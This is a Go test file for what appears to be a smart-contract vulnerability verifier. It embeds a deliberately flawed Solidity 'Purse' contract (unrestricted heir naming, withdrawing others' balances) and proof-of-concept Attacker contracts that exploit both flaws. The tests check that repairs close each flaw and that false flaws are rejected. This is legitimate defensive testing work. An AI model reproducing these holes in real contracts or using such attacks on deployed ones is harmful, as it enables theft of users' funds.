package verify_test

import (
	"strings"
	"testing"

	"assay/internal/core/suite"
	"assay/internal/core/suite/evidence"
	"assay/internal/proof/verify"
	"assay/internal/test/solctest"
)

// A purse with two flaws: anybody may name who gets the gifts, and anybody may move
// another's money.
const purse = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;
contract Purse {
    mapping(address => uint256) public kept;
    address public heir = address(this);
    uint256 public gifts;
    function put() external payable { kept[msg.sender] += msg.value; }
    function give() external payable { gifts += msg.value; }
    function name(address to) external {
        if (to == address(0)) heir = to; else heir = to;
    }
    function inherit() external {
        require(msg.sender == heir, "heir only");
        uint256 amount = gifts;
        gifts = 0;
        payable(msg.sender).transfer(amount);
    }
    function take(address from, uint256 amount) external {
        kept[from] -= amount;
        payable(msg.sender).transfer(amount);
    }
}
`

const (
	// named once
	naming, named = "if (to == address(0)) heir = to; else heir = to;", "require(heir == address(this)); heir = to;"
	taking, taken = "kept[from] -= amount;", "kept[msg.sender] -= amount;"
)

const purseProof = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;
import "./Purse.sol";
interface Vm { function deal(address who, uint256 wei_) external; function prank(address who) external; }
contract Attacker {
    Purse internal purse;
    constructor(Purse purse_) { purse = purse_; }
    function claim() external { purse.name(address(this)); purse.inherit(); }
    function grab(address from) external { purse.take(from, 3 ether); }
    receive() external payable {}
}
contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ADA = address(0xADA);
    address constant BOB = address(0xB0B);
    Purse internal purse;
    Attacker internal claimant;
    Attacker internal grabber;
    function setUp() public {
        purse = new Purse();
        claimant = new Attacker(purse);
        grabber = new Attacker(purse);
        vm.deal(ADA, 10 ether);
        vm.prank(ADA);
        purse.put{value: 3 ether}();
        vm.prank(ADA);
        purse.give{value: 2 ether}();
        purse.name(BOB);
    }
    function test_Regular() public {
        vm.prank(ADA);
        purse.take(ADA, 1 ether);
        vm.prank(BOB);
        purse.inherit();
        require(BOB.balance == 2 ether && ADA.balance == 6 ether, "paid");
    }
    function exploit() public { claimant.claim(); }
    function test_Exploit() public { exploit(); }
    function exploit2() public { /*second*/grabber.grab(ADA); }
    function test_Exploit2() public { exploit2(); }
    function target() public view returns (address) { return address(purse); }
    function attacker() public view returns (address) { return address(claimant); }
    function attacker2() public view returns (address) { return address(grabber); }
}
`

// twoFlaws is the sample, with the repair of each flaw as a replacement in the source.
func twoFlaws(first, second [2]string, proofText string) suite.Executable {
	tree := func(pairs ...[2]string) map[string]string {
		text := purse
		for _, p := range pairs {
			text = strings.Replace(text, p[0], p[1], 1)
		}
		return map[string]string{"Purse.sol": text, "Proof.sol": proofText}
	}
	x := suite.Executable{ID: "doc/purse", Main: "Purse.sol", Vulnerable: tree(), Fixed: tree(first, second),
		Rules: evidence.Rules{Compiler: "0.8.30", Contract: "Purse", Impact: "ether_gained", Minimum: "2000000000000000000",
			CapitalWei: "0",
			Further:    "2 ether_gained - 3000000000000000000"}}
	one, two := tree(first)["Purse.sol"], tree(second)["Purse.sol"]
	x.Parts = []suite.Part{{Number: 1, Only: one, Left: two}, {Number: 2, Only: two, Left: one}}
	return x
}

// Each of two flaws is shown to be one: its attack works where it alone is left, and
// fails where it alone is repaired.
func TestTwoFlaws(t *testing.T) {
	e := run(t, twoFlaws([2]string{naming, named}, [2]string{taking, taken}, purseProof)).Evidence
	if !e.Proved {
		t.Fatal(e.Failures())
	}
	for _, want := range []struct {
		source  evidence.Source
		flaw    int
		reached bool
	}{{evidence.Vulnerable, 0, true}, {evidence.Vulnerable, 2, true}, {evidence.Fixed, 0, false},
		{evidence.Fixed, 2, false},
		{evidence.Only(1), 0, false}, {evidence.Left(1), 0, true}, {evidence.Only(2), 2, false},
		{evidence.Left(2), 2, true}} {
		found := false
		for _, c := range e.Cells {
			if c.Kind == evidence.Exploit && c.Source == want.source && c.Flaw == want.flaw {
				found = strings.HasPrefix(c.Shown, "impact reached") == want.reached
			}
		}
		if !found {
			t.Errorf("no cell says that flaw %d on %s: %v", want.flaw, want.source, want.reached)
		}
	}
	if s := e.Summary(evidence.Vulnerable); !strings.Contains(s,
		"; exploit of flaw 2: impact reached, ether gained: 0 → 3e18") {
		t.Error(s)
	}
}

// A second flaw that is none is turned away.
func TestFalseSecondFlaws(t *testing.T) {
	for _, c := range []struct {
		name          string
		first, second [2]string
		proof         [2]string
		want          string
	}{
		{"the second repair repairs nothing", [2]string{naming, named},
			[2]string{taking, "kept[from] = kept[from] - amount;"}, [2]string{},
			"exploit of flaw 2 on the fixed source: the attack still reaches its impact"},
		{"it stops the first attack alone", [2]string{naming, named},
			[2]string{"gifts = 0;", "gifts -= amount; require(msg.sender.code.length == 0);"}, [2]string{},
			"exploit of flaw 2 on the only-2-repaired source: the attack still reaches its impact"},
		{"the first flaw told twice", [2]string{naming, named}, [2]string{"gifts = 0;",
			"gifts -= amount; require(msg.sender.code.length == 0);"},
			[2]string{"/*second*/grabber.grab(ADA);", "grabber.claim();"},
			"exploit of flaw 2 on the only-2-left source: the attack does not reach its impact"},
		{"the second repair stops the first attack", [2]string{naming, named},
			[2]string{taking, "require(msg.sender.code.length == 0); kept[msg.sender] -= amount;"},
			[2]string{"claimant.claim();", "claimant.grab(ADA);"},
			"exploit on the only-1-left source: the attack does not reach its impact"},
		{"the second attack does nothing", [2]string{naming, named}, [2]string{taking, taken},
			[2]string{"/*second*/grabber.grab(ADA);", ""},
			"exploit of flaw 2 on the vulnerable source: the attack does not reach its impact"},
		{"the second attack cheats", [2]string{naming, named}, [2]string{taking, taken},
			[2]string{"/*second*/", "vm.deal(address(grabber), 9 ether); "},
			"exploit of flaw 2 on the vulnerable source: refused"},
		{"there is no second attack", [2]string{naming, named}, [2]string{taking, taken},
			[2]string{"exploit2()", "exploit3()"},
			"exploit of flaw 2 on the vulnerable source: "},
		{"the second repair breaks honest use", [2]string{naming, named}, [2]string{taking, `revert("closed");`}, [2]string{},
			"regular on the only-1-left source: honest use does not pass"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			text := purseProof
			if c.proof[0] != "" {
				if text = strings.ReplaceAll(text, c.proof[0], c.proof[1]); text == purseProof {
					t.Fatal("nothing was replaced")
				}
			}
			turnedAway(t, run(t, twoFlaws(c.first, c.second, text)).Evidence, c.want)
		})
	}
	x := twoFlaws([2]string{naming, named}, [2]string{taking, taken}, purseProof)
	x.Parts = x.Parts[:1]
	turnedAway(t, run(t, x).Evidence, "2 label sets need as many repairs, and there are 1")
}

// An attack of a subject may be about either flaw, and its repair ends one or both.
func TestTwoFlawsByOthers(t *testing.T) {
	x := twoFlaws([2]string{naming, named}, [2]string{taking, taken}, purseProof)
	c := solctest.New(t)
	cs, err := verify.Prepare(t.Context(), c, x)
	if err != nil {
		t.Fatal(err)
	}
	a, err := cs.Attack(t.Context(), c, `import "./Purse.sol";
interface World { function target() external view returns (address); }
contract Attacker {
    function step(uint256, address world) external returns (uint256) {
        Purse(World(world).target()).take(address(0xADA), 3 ether);
        return 0;
    }
    receive() external payable {}
}`)
	if err != nil || !a.Specific() || a.Flaw != 2 {
		t.Errorf("%+v %v", a, err)
	}
	r, err := cs.Repair(t.Context(), c, strings.Replace(purse, taking, taken, 1), verify.Options{Fuzz: 100, Seed: 1})
	if err != nil || r.Works() || r.Ends(1) || !r.Ends(2) {
		t.Errorf("%v %v", r.Failures(), err)
	}
	// What recognises the attacker ends nothing, though the other flaw stays open.
	for _, guard := range []string{"require(msg.sender.code.length == 0);", "require(msg.sender == address(0xADA));"} {
		r, err = cs.Repair(t.Context(), c, strings.Replace(purse, taking, guard+taking, 1), verify.Options{Seed: 1})
		if err != nil || r.Ends(1) || r.Ends(2) || r.BreaksUse() == "" {
			t.Errorf("%s %v %v", guard, r.Failures(), err)
		}
	}
	r, err = cs.Repair(t.Context(), c, x.Fixed["Purse.sol"], verify.Options{Fuzz: 100, Seed: 1})
	if err != nil || !r.Works() || !r.Ends(1) || !r.Ends(2) {
		t.Errorf("%v %v", r.Failures(), err)
	}
}
